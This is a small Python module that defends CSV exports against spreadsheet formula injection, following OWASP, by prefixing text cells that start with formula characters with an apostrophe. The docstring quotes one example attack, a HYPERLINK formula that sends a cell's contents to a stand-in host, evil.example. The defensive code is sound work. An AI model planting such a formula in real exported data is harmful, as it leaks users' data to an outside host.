"""Cells a spreadsheet would run as a formula, made inert for the CSV files.

OWASP's advice on CSV injection: a cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return may be read as a formula (e.g.
``=HYPERLINK("http://evil.example/?x="&A1,"Click")``) by Excel, LibreOffice
or Google Sheets. Such a text cell gets a leading apostrophe, which the
spreadsheet shows as a plain text marker. Numbers are left alone (a
negative year stays a number); the JSON keeps every value as it is.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value):
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(row):
    """A copy of a row (dict) with every cell made inert."""
    return {name: inert(value) for name, value in row.items()}
